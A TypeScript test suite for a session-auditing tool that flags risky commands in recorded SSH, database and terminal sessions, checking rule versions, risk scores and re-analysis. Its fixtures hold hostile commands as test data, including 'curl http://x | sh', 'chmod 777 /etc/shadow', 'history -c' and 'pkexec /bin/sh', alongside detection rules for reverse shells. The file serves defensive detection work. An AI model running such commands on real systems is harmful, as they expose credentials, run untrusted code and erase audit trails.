import { and, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as getAuditedCommands } from "@/app/api/v1/audited-commands/route";
import { analyzeSession } from "@/lib/analysis/analyze";
import { ruleFormSchema } from "@/lib/analysis/rule-form";
import { createAuditedCommand, deleteAuditedCommand, setAuditedCommandEnabled, updateAuditedCommand } from "@/lib/analysis/rules";
import { db } from "@/lib/db/client";
import { getRulesVersion, listRules } from "@/lib/analysis/queries/rules";
import { auditedCommandsSchema } from "@/lib/ingest/schemas";
import { getSessionFindings, listSessionIdsToAnalyze, listSessionsWithFindings } from "@/lib/analysis/queries/findings";
import { auditLog, remoteSessions, type AuditedCommandRule } from "@/lib/db/schema";
import { AppError } from "@/lib/errors";
import { reanalyzeAllHandler } from "@/lib/analysis/jobs/reanalyze-all";
import { reanalyzeAllJob } from "@/lib/jobs/reanalyze-all";
import { stopBoss } from "@/lib/jobs/queue";
import { startWorker } from "@/lib/worker";
import { enqueueSessionAnalysis } from "@/lib/analysis";
import { createApiToken } from "@/lib/tokens";
import { insertSession, typeLines } from "../support/analysis-fixtures";
import { closeDb, useFreshDatabase } from "../support/db";
import { createTestUser } from "../support/users";

beforeAll(async () => {
  await useFreshDatabase();
});
afterAll(async () => {
  await stopBoss();
  await closeDb();
});

const ruleNamed = (rules: AuditedCommandRule[], name: string) => {
  const rule = rules.find((r) => r.name === name);
  if (!rule) throw new Error(`no rule ${name}`);
  return rule;
};
const sessionRow = async (id: number) => (await db.select().from(remoteSessions).where(eq(remoteSessions.id, id)))[0]!;
const runJob = (payload: { rulesVersion: number; afterId?: number }) => reanalyzeAllHandler.handle(reanalyzeAllJob.schema.parse(payload), {} as never);

const DEMO = ["sudo su -", "chmod 777 /etc/shadow", "history -c", "curl http://x | sh", "mysql -u root -p", { masked: 9 }, "ls -la"];

describe("vulnerability analysis", () => {
  let ssh: Awaited<ReturnType<typeof insertSession>>;
  let enters: number[];
  let owner: Awaited<ReturnType<typeof createTestUser>>;

  it("installs the default rules once, as version 1", async () => {
    expect(await getRulesVersion()).toBe(1);
    const rules = await listRules();
    expect(rules.length).toBeGreaterThanOrEqual(30);
    expect(rules.every((r) => r.builtIn && r.enabled)).toBe(true);
    expect(await getRulesVersion()).toBe(1);
    expect(await listRules()).toHaveLength(rules.length);
  });

  it("finds the audited commands of a finished SSH session, with the risk score", async () => {
    owner = await createTestUser("user");
    const typed = typeLines(DEMO);
    enters = typed.enters;
    ssh = await insertSession({ protocol: "ssh", userId: owner.id, events: typed.events });
    const result = await analyzeSession({ sessionId: ssh.id });
    expect(result).toMatchObject({ status: "analyzed", rulesVersion: 1, commands: 6 });

    const findings = await getSessionFindings({ sessionId: ssh.id });
    expect(findings.map((f) => [f.ruleName, f.command, f.tMs])).toEqual([
      ["Root shell through su or sudo", "sudo su -", enters[0]],
      ["Password hashes accessed (/etc/shadow)", "chmod 777 /etc/shadow", enters[1]],
      ["World-writable permissions on a system file", "chmod 777 /etc/shadow", enters[1]],
      ["Shell history cleared or disabled", "history -c", enters[2]],
      ["Downloaded script run by a shell", "curl http://x | sh", enters[3]],
    ]);
    // The masked password never reaches a finding.
    expect(findings.some((f) => f.command.includes("•"))).toBe(false);
    expect(findings.every((f) => f.rulesVersion === 1)).toBe(true);

    const rules = await listRules();
    const expectedScore = findings.reduce((sum, f) => sum + ruleNamed(rules, f.ruleName).score, 0);
    expect(expectedScore).toBeGreaterThan(100);
    const row = await sessionRow(ssh.id);
    expect(row).toMatchObject({ riskScore: expectedScore, maxCriticality: "high", analysisRulesVersion: 1 });
    expect(result).toMatchObject({ riskScore: expectedScore, findings: 5 });
    const history = findings.find((f) => f.ruleName === "Shell history cleared or disabled")!;
    expect(history).toMatchObject({ action: "interrupt", criticality: "high" });
  });

  it("gives the same result when run again (idempotent)", async () => {
    const before = await getSessionFindings({ sessionId: ssh.id });
    await Promise.all([analyzeSession({ sessionId: ssh.id }), analyzeSession({ sessionId: ssh.id })]);
    const after = await getSessionFindings({ sessionId: ssh.id });
    expect(after.map((f) => [f.ruleName, f.tMs])).toEqual(before.map((f) => [f.ruleName, f.tMs]));
    expect((await sessionRow(ssh.id)).riskScore).toBe(before.reduce((s, f) => s + f.score, 0));
  });

  it("analyzes database statements and skips graphical sessions", async () => {
    const pg = await insertSession({
      protocol: "postgresql",
      events: [
        { tMs: 500, type: "query", data: { statement: "SELECT id FROM orders WHERE id = 1", outcome: "success", rowsAffected: 1 } },
        { tMs: 900, type: "query", data: { statement: "delete from orders", outcome: "success", rowsAffected: 812 } },
        { tMs: 1200, type: "query", data: { statement: "UPDATE orders SET paid = true WHERE id = 4", outcome: "success" } },
      ],
    });
    expect(await analyzeSession({ sessionId: pg.id })).toMatchObject({ status: "analyzed", commands: 3, findings: 1 });
    expect((await getSessionFindings({ sessionId: pg.id })).map((f) => [f.ruleName, f.tMs])).toEqual([["DELETE without WHERE", 900]]);

    const rdp = await insertSession({ protocol: "rdp", events: typeLines(["sudo su -"]).events });
    expect(await analyzeSession({ sessionId: rdp.id })).toEqual({ status: "no-command-analysis" });
    expect(await getSessionFindings({ sessionId: rdp.id })).toEqual([]);
    expect(await sessionRow(rdp.id)).toMatchObject({ riskScore: 0, maxCriticality: null, analysisRulesVersion: null });

    const quiet = await insertSession({ protocol: "ssh", events: typeLines(["ls", "uptime"]).events });
    expect(await analyzeSession({ sessionId: quiet.id })).toMatchObject({ status: "analyzed", findings: 0, riskScore: 0 });
    expect(await sessionRow(quiet.id)).toMatchObject({ maxCriticality: null, analysisRulesVersion: 1 });
    expect(await analyzeSession({ sessionId: 987654 })).toEqual({ status: "missing" });
  });

  it("re-analyzes every session after a rule change, with the new version", async () => {
    const admin = await createTestUser("admin");
    const rules = await listRules();
    const history = ruleNamed(rules, "Shell history cleared or disabled");

    // Disable one built-in rule: version 2, audited, re-analysis queued.
    const disabled = await setAuditedCommandEnabled({ actor: admin, id: history.id, enabled: false });
    expect(disabled.version).toBe(2);
    // Add a rule of our own: version 3.
    const form = ruleFormSchema.parse({
      name: "Listing with hidden files",
      pattern: String.raw`(?:^|\s)ls\s+-\S*a`,
      sessionType: "terminal",
      criticality: "low",
      score: "3",
      action: "allow",
      enabled: "on",
    });
    const created = await createAuditedCommand({ actor: admin, form });
    expect(created.version).toBe(3);
    const audits = await db.select().from(auditLog).where(eq(auditLog.action, "rule.changed")).orderBy(auditLog.chainSeq);
    expect(audits.map((a) => (a.details as { change: string; rulesVersion: number }).change)).toEqual(["disabled", "created"]);
    expect(audits.map((a) => (a.details as { rulesVersion: number }).rulesVersion)).toEqual([2, 3]);
    const queued = await db.execute(sql`select data from pgboss.job where name = 'reanalyze-all' order by created_on`);
    expect(queued.rows.map((r) => (r as { data: { rulesVersion: number } }).data.rulesVersion)).toEqual([2, 3]);

    // The walk for version 2 stops: version 3 is newer and covers everything.
    await runJob({ rulesVersion: 2 });
    expect((await getSessionFindings({ sessionId: ssh.id })).every((f) => f.rulesVersion === 1)).toBe(true);

    await runJob({ rulesVersion: 3 });
    const findings = await getSessionFindings({ sessionId: ssh.id });
    expect(findings.map((f) => f.ruleName)).toEqual([
      "Root shell through su or sudo",
      "Password hashes accessed (/etc/shadow)",
      "World-writable permissions on a system file",
      "Downloaded script run by a shell",
      "Listing with hidden files",
    ]);
    expect(findings.every((f) => f.rulesVersion === 3)).toBe(true);
    expect(findings.at(-1)).toMatchObject({ command: "ls -la", tMs: enters[6], action: "allow", score: 3 });
    const row = await sessionRow(ssh.id);
    expect(row.riskScore).toBe(findings.reduce((s, f) => s + f.score, 0));
    expect(row.analysisRulesVersion).toBe(3);
    // Every session with events was re-analyzed, including the database one.
    const versions = await db
      .select({ v: remoteSessions.analysisRulesVersion })
      .from(remoteSessions)
      .where(and(sql`${remoteSessions.protocol} <> 'rdp'`));
    expect(versions.every((r) => r.v === 3)).toBe(true);

    // A stale analysis cannot overwrite a newer one.
    const stale = await import("@/lib/analysis/queries/findings").then((m) => m.replaceSessionFindings({ sessionId: ssh.id, rulesVersion: 2, findings: [] }));
    expect(stale.stored).toBe(false);
    expect(await getSessionFindings({ sessionId: ssh.id })).toHaveLength(5);
  });

  it("refuses unsafe patterns and deleting built-in rules", async () => {
    const admin = await createTestUser("admin");
    const rules = await listRules();
    const builtIn = rules.find((r) => r.builtIn)!;
    await expect(deleteAuditedCommand({ actor: admin, id: builtIn.id })).rejects.toBeInstanceOf(AppError);
    const mine = rules.find((r) => !r.builtIn)!;
    const bad = {
      ...ruleFormSchema.parse({ name: "x", pattern: "ls", sessionType: "terminal", criticality: "low", score: "1", action: "alert" }),
      pattern: "(a+)\\1",
    };
    await expect(updateAuditedCommand({ actor: admin, id: mine.id, form: bad })).rejects.toThrow(/Backreferences are not supported/);
    expect(await getRulesVersion()).toBe(3);
    const removed = await deleteAuditedCommand({ actor: admin, id: mine.id });
    expect(removed.version).toBe(4);
    // Findings keep the rule's name after it is deleted.
    const names = (await getSessionFindings({ sessionId: ssh.id })).map((f) => f.ruleName);
    expect(names).toContain("Listing with hidden files");
  });

  it("lists sessions with occurrences for who may see them", async () => {
    const auditor = await createTestUser("auditor");
    const other = await createTestUser("user");
    const all = await listSessionsWithFindings({ viewer: auditor });
    expect(all.rows.map((r) => r.id)).toContain(ssh.id);
    expect(all.rows.every((r) => r.findings > 0 && r.maxCriticality !== null)).toBe(true);
    expect(all.rows.find((r) => r.id === ssh.id)?.findings).toBe(5);
    const own = await listSessionsWithFindings({ viewer: owner });
    expect(own.rows.map((r) => r.id)).toEqual([ssh.id]);
    expect((await listSessionsWithFindings({ viewer: other })).rows).toEqual([]);
    // Keyset pages: one row a page walks every row once.
    const seen: number[] = [];
    let cursor = null;
    for (let i = 0; i < 10; i++) {
      const page: Awaited<ReturnType<typeof listSessionsWithFindings>> = await listSessionsWithFindings({ viewer: auditor, cursor, limit: 1 });
      seen.push(...page.rows.map((r) => r.id));
      if (!page.next) break;
      cursor = page.next;
    }
    expect(seen).toEqual(all.rows.map((r) => r.id));
  });

  it("walks only the sessions that have command analysis and events", async () => {
    const empty = await insertSession({ protocol: "ssh" });
    const vnc = await insertSession({ protocol: "vnc", events: typeLines(["id"]).events });
    const ids = await listSessionIdsToAnalyze({ afterId: 0, limit: 1000 });
    expect(ids).toContain(ssh.id);
    expect(ids).not.toContain(empty.id);
    expect(ids).not.toContain(vnc.id);
    expect(await listSessionIdsToAnalyze({ afterId: ssh.id, limit: 1000 })).not.toContain(ssh.id);
  });

  it("a worker analyzes a session sent with enqueueSessionAnalysis", async () => {
    const worker = await startWorker();
    try {
      const session = await insertSession({ protocol: "telnet", events: typeLines(["pkexec /bin/sh"]).events });
      await enqueueSessionAnalysis(session.id);
      const deadline = Date.now() + 30_000;
      while ((await sessionRow(session.id)).analysisRulesVersion === null && Date.now() < deadline) {
        await new Promise((r) => setTimeout(r, 250));
      }
      expect(await sessionRow(session.id)).toMatchObject({ analysisRulesVersion: await getRulesVersion(), maxCriticality: "high" });
      expect((await getSessionFindings({ sessionId: session.id })).map((f) => f.ruleName)).toEqual(["Privilege escalation with pkexec or doas"]);
    } finally {
      await worker.stop();
    }
  });

  it("serves the enabled rules to proxies with a token", async () => {
    const url = "http://localhost/api/v1/audited-commands";
    expect((await getAuditedCommands(new Request(url))).status).toBe(401);
    expect((await getAuditedCommands(new Request(url, { headers: { authorization: "Bearer svt_nope" } }))).status).toBe(401);
    const { token } = await createApiToken({ name: "proxy", createdBy: null });
    const response = await getAuditedCommands(new Request(url, { headers: { authorization: `Bearer ${token}` } }));
    expect(response.status).toBe(200);
    const body = (await response.json()) as { version: number; rules: { name: string; action: string; attempts: number | null; pattern: string }[] };
    expect(body.version).toBe(4);
    // What the proxies get is what the OpenAPI document promises.
    expect(auditedCommandsSchema.safeParse(body).error).toBeUndefined();
    const names = body.rules.map((r) => r.name);
    expect(names).toContain("Root shell through su or sudo");
    expect(names).not.toContain("Shell history cleared or disabled");
    expect(body.rules.find((r) => r.name === "Reverse shell")).toMatchObject({ action: "interrupt", attempts: 1 });
    const etag = response.headers.get("etag")!;
    const again = await getAuditedCommands(new Request(url, { headers: { authorization: `Bearer ${token}`, "if-none-match": etag } }));
    expect(again.status).toBe(304);
  });
});
